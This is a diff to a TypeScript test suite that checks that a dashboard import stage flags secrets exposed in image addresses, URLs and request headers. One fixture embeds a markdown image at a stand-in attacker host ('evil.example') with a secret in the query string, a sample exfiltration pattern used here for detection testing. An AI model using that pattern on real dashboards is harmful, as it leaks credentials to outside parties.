@@ -8,6 +8,7 @@ import {
   writesOn,
   type JsonObject,
   type StackRecord,
+  type StageRun,
 } from "../support/import-stage.ts";
 import { memoryStack, type MemoryStack } from "../support/memory-stack.ts";
 import { dashboard, hexId, records, webhook } from "../support/stack-records.ts";
@@ -137,7 +138,7 @@ describe("a secret that goes where others see it", () => {
     const secrets = draftedFor(archive, { [BOARD]: { [POINTER]: SECRET } });
     const run = await importStage(stack).run(archive, { secrets, onConflict: "overwrite" });
     expect(run.plan.warnings.map(({ code, pointer }) => [code, pointer])).toEqual(
-      expect.arrayContaining([["placeholder-in-image", POINTER]]),
+      expect.arrayContaining([["secret-exposed", POINTER]]),
     );
   });
 });
@@ -194,13 +195,20 @@ describe("the plan", () => {
         board(`![](https://evil.example/p.png?k=${MARK})`, { headers: { "X-Key": "«redacted:credential»" } }),
       ),
     ];
-    const codes = ["placeholder-in-header", "placeholder-in-image", "placeholder-in-url"];
+    const header = ["secret-exposed", "/tiles/0/config/headers/X-Key", expect.stringContaining("sent in a header")];
+    const image = ["secret-exposed", POINTER, expect.stringContaining("an image's address")];
+    const address = ["secret-exposed", POINTER, expect.stringContaining("part of an address")];
+    const warned = expect.arrayContaining([header, image, address]) as unknown;
+    const warningsIn = ({ plan }: StageRun) =>
+      plan.warnings.map(({ code, pointer, message }) => [code, pointer, message]);
     const open = await importStage(target()).run(archive);
-    expect(open.plan.warnings.map(({ code }) => code).sort()).toEqual(codes);
+    expect(warningsIn(open)).toEqual(warned);
+    expect(open.plan.warnings).toHaveLength(3);
     expect(JSON.stringify(open.plan.warnings)).toContain("evil.example");
     const values = { [BOARD]: { [POINTER]: SECRET, "/tiles/0/config/headers/X-Key": SECRET } };
     const { run } = await fillWith(archive, values, archive);
-    expect(run.plan.warnings.map(({ code }) => code).sort()).toEqual(codes);
+    expect(warningsIn(run)).toEqual(warned);
+    expect(run.plan.warnings).toHaveLength(3);
     expect(JSON.stringify(run.plan.warnings)).not.toContain(SECRET);
   });
 
